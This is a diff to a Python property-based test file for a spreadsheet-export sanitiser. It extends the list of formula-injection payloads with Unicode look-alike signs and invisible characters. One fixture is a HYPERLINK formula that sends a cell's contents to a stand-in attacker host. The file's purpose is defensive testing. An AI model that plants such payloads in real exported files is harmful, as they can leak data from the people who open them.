@@ -10,7 +10,8 @@ from hypothesis import strategies as st
 
 from hub.api.shapes.sheets import harmless, write_sheet
 
-SIGNS = "=+-@＝＋－＠"
+SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫⁼⁺⁻₌"
+UNSEEN = "\u200b\ufeff\u2060\u200e\u061c\u00ad\u3000\u2028\ufe0f\u0301"
 SEPARATORS = ",;|:\t"
 
 DANGEROUS = [
@@ -18,11 +19,13 @@ DANGEROUS = [
     "\n=1+1", " =1+1", "\"=1+1", "'=1+1", "\"\"=1", "a,=1+1", "a;=1+1", "a\t=1+1", "a\n=1+1", 'a","=1+1', 'a";"=1+1',
     "=HYPERLINK(\"http://attacker.example/?\"&A1,\"x\")", "＝1＋1", "－1", "＠SUM(1)", "\u00a0=1", "Smith;@x", "\x00=1",
     "=1+1\";=1+1", "'\"=1", "`=1", "%0A-3+3", "\v=1", "x|=1", "a:=1",
+    *(f"{unseen}=1" for unseen in UNSEEN), "\ufeff \u200b\u061c＝1", "a;\u200b@x", "﹦1", "﹫A1", "⁺1", "a；=1",
+    "，\u2060﹢1",
 ]  # fmt: skip
 """As they are told in OWASP's article and in lists of attacks on Excel, LibreOffice and Google Sheets."""
 
 texts = st.one_of(
-    st.text(), st.lists(st.sampled_from([*SIGNS, *SEPARATORS, '"', "'", "`", " ", "\r", "\n", "\u00a0", "a", "1"]),
+    st.text(), st.lists(st.sampled_from([*SIGNS, *SEPARATORS, *UNSEEN, '"', "'", "`", " ", "\r", "\n", "\u00a0", "a"]),
                         max_size=12).map("".join),
 )  # fmt: skip
 
@@ -35,7 +38,8 @@ def cells(sheet: str, separator: str, quoting: int) -> list[str]:
 
 
 def begins_a_formula(cell: str) -> bool:
-    return cell.lstrip(' "\u00a0\t\r\n\v\f')[:1] in {*SIGNS}
+    seen = [sign for sign in cell if sign != '"' and unicodedata.category(sign)[0] not in "ZCM"]
+    return seen[:1] != [] and unicodedata.normalize("NFKC", seen[0])[0] in "=+-@"
 
 
 @pytest.mark.parametrize("value", DANGEROUS)
